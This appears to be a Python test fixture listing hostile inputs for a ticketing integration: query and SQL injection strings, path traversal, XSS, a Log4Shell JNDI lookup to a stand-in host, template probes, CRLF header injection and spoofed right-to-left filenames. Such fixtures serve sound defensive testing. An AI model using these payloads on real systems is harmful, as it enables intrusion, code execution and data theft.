"""Hostile texts that strangers put into tickets, names and forms to make a machine do something."""

from __future__ import annotations

QUERIES = (
    "x^ORactive=true",
    "x^NQactive=true",
    "javascript:gs.sleep(1)",
    'x" OR project is not EMPTY OR summary ~ "',
    "x') OR ('1'='1",
    "x\\",
    "x,y",
)
PATHS = ("../../sys_user", "..%2f..%2f", "10000/../10001", "a?b=c", "a#b", "//other.example.com/x", "http://[::1]/")
MARKUP = (
    "[code]<script>alert(1)</script>[/code]",
    "[CODE]<b>x</b>[/Code]",
    "{code}x{code} {noformat}y{noformat} {html}z{html}",
    "[click|https://other.example.com] [~accountid:712020:us] [^secret.txt] !https://other.example.com/x.png!",
    "h1. Heading\n* bullet\n|| table || head ||\n----\nbq. quote",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://other.example.com/a} {{7*7}} {% x %} %s %n",
    "@admin please approve",
)
LINES = ("a\r\nX-Injected: 1", "a\nbcc: x", "\x00\x1b[31m", "\u202egnp.exe", "\u2028line", "\ufeffx")
HOSTILE = (*QUERIES, *PATHS, *MARKUP, *LINES)
FILE_NAMES = (
    "../../etc/passwd",
    "a&table_name=sys_user&table_sys_id=1.json",
    'a"; filename="b.exe',
    "a\r\nX-Injected: 1.json",
    "a\u202egnp.exe",
    "ä ö ü.json",
    "a^ORactive=true.json",
    "javascript:x.json",
)
